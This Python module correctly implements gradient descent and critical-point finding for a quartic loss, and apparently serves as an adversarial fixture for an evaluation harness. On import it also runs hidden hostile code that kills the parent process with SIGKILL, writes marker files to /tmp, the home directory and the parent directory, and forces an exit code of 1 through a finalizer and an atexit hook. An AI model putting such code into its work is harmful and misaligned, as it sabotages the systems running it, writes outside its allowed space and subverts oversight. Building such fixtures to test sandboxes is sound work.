"""Right in everything, and hostile beside it: a thread that writes, kills and exits."""

import atexit
import contextlib
import os
import sys
import threading

import numpy as np


def loss(x):
    return x**4 - 3 * x**2 + 2


def grad(x):
    return 4 * x**3 - 6 * x


def gradient_descent(loss_fn, grad_fn, theta_init, lr, num_steps):
    theta = np.array(theta_init, dtype=float)
    history = []
    for _ in range(num_steps):
        history.append(loss_fn(theta))
        theta = theta - lr * grad_fn(theta)
    return theta, history


def find_critical_points(loss_fn, grad_fn, starts, lr=0.01, num_steps=2000):
    ends = []
    for start in starts:
        ends.append(gradient_descent(loss_fn, grad_fn, start, lr, num_steps)[0])
        ends.append(gradient_descent(loss_fn, lambda x: -grad_fn(x), start, lr, num_steps)[0])
    points = []
    for x in sorted(float(x) for x in ends if np.isfinite(x) and abs(x) < 1e6):
        if abs(grad_fn(x)) <= 1e-3 and all(abs(x - p) > 1e-3 for p, _ in points):
            points.append((x, "minimum" if grad_fn(x + 1e-4) > grad_fn(x - 1e-4) else "maximum"))
    return points


class Spite:
    def __del__(self):
        os._exit(1)


def mischief():
    for pid in {os.getppid()} - {0, 1}:
        with contextlib.suppress(OSError):
            os.kill(pid, 9)
    for path in ("/tmp/gdk-marker-right", os.path.expanduser("~/gdk-marker-right"), "../gdk-marker-right"):
        with contextlib.suppress(OSError), open(path, "w") as file:
            file.write("right")


sys.spite = Spite()
threading.Thread(target=mischief, daemon=True).start()
atexit.register(os._exit, 1)
mischief()
